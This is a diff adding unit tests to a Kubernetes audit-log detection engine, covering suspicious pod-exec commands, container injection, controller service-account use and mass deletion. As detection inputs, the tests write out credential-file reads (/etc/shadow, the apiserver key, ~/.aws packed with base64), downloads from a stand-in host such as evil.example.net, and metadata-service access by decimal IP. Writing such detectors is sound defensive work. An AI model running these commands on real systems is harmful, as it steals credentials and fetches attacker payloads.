@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import type { Finding } from '#shared/contracts';
 import { builtinRules, createEngine, defaultRuleSettings, type RuleSettings } from '#shared/engine';
 import { corpusLines, envelopeOf } from '#shared/testing';
+import { ruleFindings } from './helpers.js';
 
 const workloadIds = [
   'privileged-container',
@@ -637,6 +638,24 @@ describe('pod-exec-suspicious-command', () => {
     expect(evidenceOf(event, 'pod-exec-suspicious-command')).toMatchObject({ container: 'api', matched: ['service-account-token'] });
   });
 
+  it('recognizes credential files and key material, and download tools run in the container', () => {
+    expect(matched('cat', '/etc/shadow')).toEqual(['credential-file']);
+    expect(matched('sh', '-c', 'tar -C /root/.aws -c . | base64')).toEqual(['credential-file', 'kubectl-cp']);
+    expect(matched('cat', '/proc/1/environ')).toEqual(['credential-file']);
+    expect(matched('cat', '/etc/kubernetes/pki/apiserver.key')).toEqual(['credential-file']);
+    expect(matched('ls', '/home/app/.ssh')).toEqual(['credential-file']);
+    expect(matched('curl', '-sk', 'https://203.0.113.9/payload')).toEqual(['download-tool']);
+    expect(matched('wget', 'http://evil.example.net/x')).toEqual(['download-tool']);
+    // IMDS through curl is named for what it reaches, Elastic's decimal and hex spellings included
+    expect(matched('curl', 'http://2852039166/latest/meta-data/')).toEqual(['instance-metadata']);
+  });
+
+  it('leaves name resolution, local health checks and the API server’s discovery to ordinary commands', () => {
+    for (const command of [['cat', '/etc/resolv.conf'], ['curl', '-s', 'http://localhost:8080/metrics'], ['curl', '-sk', 'https://kubernetes.default.svc/openid/v1/jwks'], ['cat', '/etc/hostname']]) {
+      expect(matched(...command), command.join(' ')).toBeUndefined();
+    }
+  });
+
   it('does not fire on ordinary commands', () => {
     for (const command of [['ls', '-la'], ['bash'], ['nc', '-z', 'db', '5432'], ['sh', '-c', 'echo tarball ready'], ['curl', 'http://web:8080/healthz']]) {
       expect(matched(...command), command.join(' ')).toBeUndefined();
@@ -882,5 +901,94 @@ describe('Falco k8s_audit traces (../shared/corpus/falco-k8s-audit, outcomes fro
 
   it('create_nginx_service_nodeport.json: a Service nodePort is not a hostPort (no workload rule fires)', () => {
     expect(fired(trace('create_nginx_service_nodeport.json'))).toEqual([]);
+  });
+});
+
+describe('persistent-workload-created', () => {
+  it('reports a CronJob or Job created by a person as low and a DaemonSet as medium, at any audit level', () => {
+    const found = ruleFindings([workloadCreate('CronJob', podSpec()), workloadCreate('Job', podSpec()), workloadCreate('DaemonSet', podSpec())], 'persistent-workload-created');
+    expect(found.map((f) => [f.evidence.kind, f.severity])).toEqual([['CronJob', 'low'], ['Job', 'low'], ['DaemonSet', 'medium']]);
+    const { requestObject: _, ...metadataOnly } = { ...workloadCreate('CronJob', podSpec()), level: 'Metadata' };
+    expect(ruleFindings([metadataOnly], 'persistent-workload-created')[0]?.summary).toBe('jane created CronJob default/web.');
+  });
+
+  it('stays silent for Deployments, updates, dry runs, failures and the Jobs the CronJob controller creates', () => {
+    const cronjobController = { username: 'system:serviceaccount:kube-system:cronjob-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system'] };
+    const silent = [
+      workloadCreate('Deployment', podSpec()),
+      { ...workloadCreate('CronJob', podSpec()), verb: 'update', requestURI: '/apis/batch/v1/namespaces/default/cronjobs/web' },
+      { ...workloadCreate('CronJob', podSpec()), requestURI: '/apis/batch/v1/namespaces/default/cronjobs?dryRun=All' },
+      { ...workloadCreate('DaemonSet', podSpec()), responseStatus: { code: 409 } },
+      { ...workloadCreate('Job', podSpec()), user: cronjobController },
+    ];
+    expect(ruleFindings(silent, 'persistent-workload-created')).toEqual([]);
+  });
+});
+
+describe('container-injected', () => {
+  const deploymentUri = '/apis/apps/v1/namespaces/default/deployments/web';
+  const ref = { resource: 'deployments', namespace: 'default', name: 'web', apiGroup: 'apps', apiVersion: 'v1' };
+  const stored = (containers: Spec[], init: Spec[] = []) => workloadObject('Deployment', podSpec(init.length > 0 ? { initContainers: init } : {}, containers));
+  const update = (containers: Spec[], init: Spec[] = []) => objectWrite('update', deploymentUri, ref, { requestObject: stored(containers, init), responseObject: stored(containers, init) });
+  it('fires when an update or patch adds a container or init container to a workload it has seen', () => {
+    const patch = objectWrite('patch', deploymentUri, ref, { requestObject: { spec: { template: { spec: { containers: [{ name: 'proxy', image: sidecar }] } } } }, responseObject: stored([container(), { name: 'proxy', image: sidecar }]) });
+    const found = ruleFindings([workloadCreate('Deployment', podSpec()), patch], 'container-injected');
+    expect(found.map((f) => f.evidence.added)).toEqual([[{ name: 'proxy', image: sidecar }]]);
+    expect(found[0]?.severity).toBe('medium');
+    const init = ruleFindings([update([container()]), update([container()], [{ name: 'setup', image: sidecar }])], 'container-injected');
+    expect(init.map((f) => (f.evidence.added as { name: string }[]).map((a) => a.name))).toEqual([['setup']]);
+  });
+
+  it('fires on a JSON patch appending a container to a workload not seen before', () => {
+    const jsonPatch = objectWrite('patch', deploymentUri, ref, { level: 'Request', requestObject: [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'miner', image: 'x/miner' } }] });
+    expect(ruleFindings([jsonPatch], 'container-injected').map((f) => f.evidence.added)).toEqual([[{ name: 'miner', image: 'x/miner' }]]);
+  });
+
+  it('stays silent for image rollouts, unchanged re-applies, unknown workloads patched without an append, and the control plane', () => {
+    const rollout = update([container({ image: sidecar })]);
+    expect(ruleFindings([workloadCreate('Deployment', podSpec()), rollout, update([container()])], 'container-injected')).toEqual([]);
+    const setImage = objectWrite('patch', deploymentUri, ref, { level: 'Request', requestObject: { spec: { template: { spec: { containers: [{ name: 'web', image: sidecar }] } } } } });
+    expect(ruleFindings([setImage], 'container-injected')).toEqual([]);
+    const controller = { username: 'system:kube-controller-manager', groups: ['system:authenticated'] };
+    expect(ruleFindings([workloadCreate('Deployment', podSpec()), { ...update([container(), { name: 'proxy', image: sidecar }]), user: controller }], 'container-injected')).toEqual([]);
+  });
+});
+
+describe('controller-service-account-assigned', () => {
+  it('fires on a pod or workload in kube-system created to run as a controller’s service account', () => {
+    const pod = podCreate(podSpec({ serviceAccountName: 'clusterrole-aggregation-controller' }), { namespace: 'kube-system', name: 'debug' });
+    const found = ruleFindings([pod, workloadCreate('Deployment', podSpec({ serviceAccountName: 'generic-garbage-collector' }), 'kube-system')], 'controller-service-account-assigned');
+    expect(found.map((f) => [f.evidence.serviceAccount, f.severity])).toEqual([['clusterrole-aggregation-controller', 'high'], ['generic-garbage-collector', 'high']]);
+  });
+
+  it('stays silent elsewhere, for other accounts, trusted images and the control plane', () => {
+    const controller = { username: 'system:kube-controller-manager', groups: ['system:authenticated'] };
+    const silent = [
+      podCreate(podSpec({ serviceAccountName: 'replicaset-controller' }), { namespace: 'shop' }),
+      podCreate(podSpec({ serviceAccountName: 'coredns' }), { namespace: 'kube-system' }),
+      { ...podCreate(podSpec({ serviceAccountName: 'replicaset-controller' }), { namespace: 'kube-system' }), user: controller },
+    ];
+    expect(ruleFindings(silent, 'controller-service-account-assigned')).toEqual([]);
+    const trusted = podCreate(podSpec({ serviceAccountName: 'ebs-snapshot-controller' }), { namespace: 'kube-system' });
+    expect(ruleFindings([trusted], 'controller-service-account-assigned', { trustedImages: ['registry.example.com/shop/'] })).toEqual([]);
+  });
+});
+
+describe('mass-deletion', () => {
+  const del = (i: number, resource = 'deployments', over: Spec = {}) =>
+    objectWrite('delete', `/apis/apps/v1/namespaces/shop/${resource}/app-${String(i)}`, { resource, namespace: 'shop', name: `app-${String(i)}`, apiGroup: 'apps', apiVersion: 'v1' }, { level: 'Metadata', auditID: `de1e7e00-0000-4000-8000-${String(i).padStart(12, '0')}`, stageTimestamp: new Date(Date.parse('2026-03-01T10:00:00Z') + i * 10_000).toISOString(), ...over });
+  it('fires once when one identity deletes ten workloads within five minutes, and on a deletecollection', () => {
+    const found = ruleFindings(Array.from({ length: 14 }, (_, i) => del(i)), 'mass-deletion');
+    expect(found.map((f) => f.evidence.deletions)).toEqual([10]);
+    const collection = objectWrite('deletecollection', '/api/v1/namespaces/shop/pods', { resource: 'pods', namespace: 'shop', apiVersion: 'v1' }, { verb: 'deletecollection' });
+    expect(ruleFindings([collection], 'mass-deletion')[0]?.summary).toBe('jane deleted every pods of namespace shop at once.');
+  });
+
+  it('stays silent below the threshold, for deletions spread over time, for the garbage collector and for other resources', () => {
+    expect(ruleFindings(Array.from({ length: 9 }, (_, i) => del(i)), 'mass-deletion')).toEqual([]);
+    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i * 6)), 'mass-deletion')).toEqual([]);
+    const gc = { username: 'system:serviceaccount:kube-system:generic-garbage-collector', groups: ['system:serviceaccounts'] };
+    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i, 'replicasets', { user: gc })), 'mass-deletion')).toEqual([]);
+    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i, 'configmaps')), 'mass-deletion')).toEqual([]);
   });
 });
